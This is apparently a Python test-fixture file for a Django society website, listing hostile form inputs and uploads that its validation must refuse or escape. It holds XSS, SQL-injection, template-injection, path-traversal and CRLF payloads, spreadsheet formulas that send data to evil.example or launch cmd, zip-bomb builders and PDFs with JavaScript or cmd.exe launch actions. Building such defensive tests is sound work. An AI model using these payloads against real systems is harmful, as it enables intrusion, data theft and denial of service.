"""Hostile inputs: what a careless paste, a broken client or an attacker sends to a form.

Each entry is put into every field of its kind at once (TEXT into every free-text field of
a form, NUMBERS into every number field, DATES into every date field; FILE_NAMES and
FILE_CONTENTS are uploads). `refuse` says what the platform must do with it:

- ALWAYS: the form is refused with a Chinese message and nothing is stored;
- ONE_LINE: refused in one-line fields (line breaks and tabs), fine in text areas;
- EITHER: refused (too long for the field, not a number, ...) or stored as typed, stripped
  of leading and trailing white space (Django's CharField), and shown escaped.

Core entries (one or two of each kind) go to every form; the others each go to a few forms
in turn, or to every form with HOSTILE_FULL=1.

A `bytes` value is sent as raw bytes in the multipart body (bytes that are not UTF-8:
Django reads them as U+FFFD, which the forms refuse as a broken encoding).
"""

import functools
import io
import os
import struct
import zipfile
import zlib
from dataclasses import dataclass

# HOSTILE_FULL=1: every text entry against every form, not only the core ones.
FULL = os.environ.get("HOSTILE_FULL") == "1"

ALWAYS = "always"
ONE_LINE = "one_line"
EITHER = "either"


@dataclass(frozen=True)
class Hostile:
    id: str
    value: str | bytes
    refuse: str = EITHER
    core: bool = True  # run against every form (the others against a few forms each)

    def __str__(self) -> str:  # the parametrize id
        return self.id

    @property
    def is_markup(self) -> bool:
        """Holds characters that would be markup if a page printed them unescaped."""
        return isinstance(self.value, str) and any(char in self.value for char in "<>\"'")


TEXT = [
    # size
    Hostile("oversized_100k", "测" * 100_000),
    Hostile("long_line_20k", "a" * 20_000, core=False),
    Hostile("long_unicode_astral", "𠀀" * 1_000, core=False),
    # control and invisible characters
    Hostile("nul", "名称\x00后缀", ALWAYS),
    Hostile("ansi_escape", "\x1b[31m红色\x1b[0m", ALWAYS),
    Hostile("bell_backspace", "退格\x08响铃\x07", ALWAYS, core=False),
    Hostile("c1_controls", "下一行\x85控制\x9b", ALWAYS, core=False),
    Hostile("delete_char", "删除\x7f", ALWAYS, core=False),
    Hostile("bidi_override", "报告\u202efdp.exe", ALWAYS),
    Hostile("bidi_isolate", "名称\u2066abc\u2069", ALWAYS, core=False),
    Hostile("zero_width", "零\u200b宽\u200c字\u200d符\u2060"),
    Hostile("bom_inside", "前\ufeff后", core=False),
    # broken encodings, sent as raw bytes
    Hostile("lone_surrogate_bytes", "替代".encode() + b"\xed\xa0\x80", ALWAYS, core=False),
    Hostile("invalid_utf8", b"\xff\xfe\xc3\x28\xa0\xa1", ALWAYS),
    Hostile("overlong_utf8_lt", b"\xc0\xbcscript\xc0\xbe", ALWAYS, core=False),
    Hostile("gbk_bytes", "四川省土木建筑学会".encode("gbk"), ALWAYS, core=False),
    # markup and script
    Hostile("script_tag", "<script>alert(1)</script>"),
    Hostile("img_onerror", '"><img src=x onerror=alert(1)>'),
    Hostile("attr_single_quote", "' onmouseover='alert(1)' x='"),
    Hostile("svg_onload", "<svg/onload=alert(1)>", core=False),
    Hostile("iframe_srcdoc", '<iframe srcdoc="<script>alert(1)</script>"></iframe>', core=False),
    Hostile("close_script", "</script><script>alert(1)</script>"),
    Hostile("style_url", "<style>*{background:url(javascript:alert(1))}</style>", core=False),
    Hostile("javascript_url", "javascript:alert(document.cookie)"),
    Hostile("markdown_js_link", "[点我](javascript:alert(1))", core=False),
    Hostile("entities", "&lt;script&gt;alert(1)&lt;/script&gt;&amp;", core=False),
    Hostile("fullwidth_script", "＜script＞alert(1)＜/script＞", core=False),
    Hostile("html_comment", "<!-- 注释 --><b>粗体</b>", core=False),
    # template and format injection
    Hostile("django_var", "{{ 7*7 }}{{ request.user.password }}"),
    Hostile("django_tag", "{% debug %}{% load static %}", core=False),
    Hostile("other_templates", "${7*7}#{7*7}<%= 7*7 %>", core=False),
    Hostile("format_string", "%s%s%n%x%(name)s{0}{}"),
    # SQL-looking
    Hostile("sql_or", "' OR 1=1 --"),
    Hostile("sql_drop", "1; DROP TABLE society_member; --", core=False),
    Hostile("sql_union", '" UNION SELECT password FROM society_user --', core=False),
    Hostile("like_wildcards", "%_%\\", core=False),
    # paths
    Hostile("path_traversal", "../../etc/passwd"),
    Hostile("windows_path", "..\\..\\windows\\win.ini", core=False),
    Hostile("file_url", "file:///etc/passwd", core=False),
    # line breaks and header injection
    Hostile("crlf_header", "张三\r\nBcc: victim@example.com", ONE_LINE),
    Hostile("lf_lines", "第一行\n第二行", ONE_LINE, core=False),
    # spreadsheet formulas
    Hostile("formula_hyperlink", '=HYPERLINK("http://evil.example/?"&A1,"点击")'),
    Hostile("formula_cmd", "+cmd|' /C calc'!A0", core=False),
    Hostile("formula_at", "@SUM(1+1)*cmd|' /C calc'!A0", core=False),
    Hostile("formula_minus", "-1+1", core=False),
    Hostile("formula_tab", "\t=1+1", core=False),  # the leading tab is stripped like space
    Hostile("tab_inside", "甲\t乙", ONE_LINE, core=False),
    # scripts and shapes of text
    Hostile("emoji", "👨‍👩‍👧‍👦🏗️🚧 桥梁"),
    Hostile("rtl_text", "مرحبا بالعالم עברית", core=False),
    Hostile("zalgo", "Z̴̡̢̛a̷̧̛l̸̨̛g̵̢̛o̶̧̡", core=False),
    Hostile("ideographic_space_only", "\u3000 \u3000"),
    Hostile("null_words", "None null undefined NaN", core=False),
    Hostile("quotes_backslashes", "\\'\"`\\\\", core=False),
]

# Into every number field (scores, amounts, quantities, hidden ids).
NUMBERS = [
    Hostile("huge_int", "9" * 40),
    Hostile("int64_overflow", "9223372036854775808"),
    Hostile("negative", "-1"),
    Hostile("negative_huge", "-" + "9" * 30),
    Hostile("nan", "NaN"),
    Hostile("infinity", "Infinity"),
    Hostile("minus_infinity", "-Infinity"),
    Hostile("exp_overflow", "1e309"),
    Hostile("tiny_fraction", "0.0000001"),
    Hostile("hex", "0x10"),
    Hostile("thousands_comma", "1,000"),
    Hostile("fullwidth_digits", "１２"),
    Hostile("number_nul", "1\x00", ALWAYS),
    Hostile("number_format_string", "1%d%s", ALWAYS),
    Hostile("number_script", "1<script>alert(1)</script>", ALWAYS),
]

# Into every date field.
DATES = [
    Hostile("zero_date", "0000-00-00", ALWAYS),
    Hostile("feb_30", "2023-02-30", ALWAYS),
    Hostile("month_13", "2023-13-01", ALWAYS),
    Hostile("year_99999", "99999-01-01", ALWAYS),
    Hostile("negative_year", "-0001-01-01", ALWAYS),
    Hostile("far_future", "9999-12-31"),
    Hostile("ancient", "0001-01-01"),
    Hostile("datetime_text", "2023-09-01T00:00:00"),
    Hostile("date_script", "<script>alert(1)</script>", ALWAYS),
]

CORPUS = [*TEXT, *NUMBERS, *DATES]


# --- uploads ------------------------------------------------------------------------------

PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
PNG = b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\rIHDR" + b"\x00" * 17


def _office(member: str, extra: dict[str, bytes] | None = None, level: int = 9) -> bytes:
    """A minimal .docx or .xlsx (its main part, plus `extra` members)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr(member, "<document/>")
        for name, content in (extra or {}).items():
            archive.writestr(name, content)
    return buffer.getvalue()


def _zip(entries: list[tuple[str, bytes, int, int]]) -> bytes:
    """A zip archive from (name, deflated data, crc, uncompressed size) entries, written by
    hand so that a member can hold gigabytes of zeros without making them."""
    body, directory = b"", b""
    for name, data, crc, size in entries:
        encoded = name.encode()
        offset = len(body)
        fields = (crc, len(data), size, len(encoded))
        body += struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, 8, 0, 0, *fields, 0)
        body += encoded + data
        directory += struct.pack(
            "<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0, 8, 0, 0, *fields, 0, 0, 0, 0, 0, offset
        )
        directory += encoded
    count = len(entries)
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, count, count, len(directory), len(body), 0)
    return body + directory + end


def _deflated(content: bytes) -> tuple[bytes, int, int]:
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    return compressor.compress(content) + compressor.flush(), zlib.crc32(content), len(content)


@functools.cache
def zip_bomb(member: str, size: int) -> bytes:
    """An Office file with a member of `size` zeros (about 1,000 times the file's size).

    After a full flush deflate starts afresh, so every megabyte of zeros compresses to the
    same bytes: the member is that block repeated, built at once even for gigabytes.
    """
    megabyte = bytes(1 << 20)
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    compressor.compress(megabyte)
    first = compressor.flush(zlib.Z_FULL_FLUSH)
    block = compressor.compress(megabyte) + compressor.flush(zlib.Z_FULL_FLUSH)
    count = size >> 20
    data = first + block * (count - 1) + compressor.flush()
    crc = 0
    if size <= 64 << 20:  # a true checksum where it is cheap; larger bombs never get read
        for _ in range(count):
            crc = zlib.crc32(megabyte, crc)
    return _zip(
        [
            ("[Content_Types].xml", *_deflated(b"<Types/>")),
            (member, *_deflated(b"<document/>")),
            ("word/media/zeros.bin", data, crc, count << 20),
        ]
    )


@functools.cache
def forged_zip_bomb() -> bytes:
    """A .docx whose headers say its big member holds 1 KB; it really inflates to 30 MB."""
    size = 30 * 1024 * 1024
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<document/>")
        archive.writestr("word/media/zeros.bin", bytes(size))
    # The local header and the central directory both give the size in four bytes.
    return buffer.getvalue().replace(size.to_bytes(4, "little"), (1024).to_bytes(4, "little"))


@dataclass(frozen=True)
class Upload:
    id: str
    name: str
    content: object  # bytes, or a function returning them (built once, when needed)
    core: bool = True  # against every upload (names: against a few in turn)
    # True: a good file under a name that is odd but harmless once Django's multipart
    # parser has cleaned it (it keeps the part after the last / or \\, drops characters
    # that are not printable and unescapes HTML entities); stored under that name.
    accept: bool = False

    def __str__(self) -> str:
        return self.id

    def data(self) -> bytes:
        return self.content() if callable(self.content) else self.content


UPLOADS = [
    Upload("zip_bomb_docx_3gb", "方案.docx", lambda: zip_bomb("word/document.xml", 3 << 30)),
    Upload("zip_bomb_xlsx_ratio", "预算.xlsx", lambda: zip_bomb("xl/workbook.xml", 64 << 20)),
    Upload("zip_bomb_forged_header", "方案.docx", forged_zip_bomb),
    Upload(
        "docx_with_macros",
        "方案.docx",
        _office("word/document.xml", {"word/vbaProject.bin": b"VBA"}),
    ),
    Upload("zip_not_office", "方案.docx", _office("readme.txt")),
    Upload("broken_zip", "方案.docx", b"PK\x03\x04" + b"\x00" * 64),
    Upload(
        "polyglot_pdf_html", "报告.pdf", b"%PDF-1.4\n<html><script>alert(1)</script></html>\n%%EOF"
    ),
    Upload(
        "pdf_javascript_action",
        "报告.pdf",
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>"
        b"endobj\n%%EOF",
    ),
    Upload(
        "pdf_launch_action", "报告.pdf", b"%PDF-1.4\n1 0 obj<</S/Launch/F(cmd.exe)>>endobj\n%%EOF"
    ),
    Upload(
        "html_renamed_pdf", "报告.pdf", b"<!DOCTYPE html><html><script>alert(1)</script></html>"
    ),
    Upload(
        "svg_renamed_png",
        "照片.png",
        b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    ),
    Upload("png_carrying_html", "照片.png", PNG + b"<html><script>alert(1)</script></html>"),
    Upload(
        "exe_renamed_pdf",
        "报告.pdf",
        b"MZ\x90\x00\x03\x00\x00\x00\x04\x00This program cannot be run",
    ),
    Upload("empty_file", "报告.pdf", b""),
    Upload("over_size", "报告.pdf", lambda: PDF + b"0" * (20 * 1024 * 1024)),
    Upload("name_traversal", "../../etc/passwd.pdf", PDF, accept=True, core=False),
    Upload("name_backslash_traversal", "..\\..\\boot.pdf", PDF, accept=True, core=False),
    Upload("name_nul", "报告\x00.pdf", PDF, accept=True, core=False),
    Upload("name_crlf", "报告\r\nContent-Type: text/html.pdf", PDF, accept=True, core=False),
    Upload("name_bidi", "报告\u202efdp.exe.pdf", PDF, accept=True, core=False),
    Upload("name_300_chars", "长" * 296 + ".pdf", PDF, core=False),
    Upload("name_pdf_exe", "报告.pdf.exe", PDF, core=False),
    Upload("name_no_extension", "报告", PDF, core=False),
    Upload("name_hidden", ".htaccess.pdf", PDF, core=False),
    Upload("name_con", "con.pdf", PDF, accept=True, core=False),
    Upload("name_markup", "<img src=x onerror=alert(1)>.pdf", PDF, accept=True, core=False),
    Upload("name_upper_extension", "报告.PDF", PDF, accept=True, core=False),
    Upload("name_exe_pdf", "setup.exe.pdf", PDF, accept=True, core=False),
]
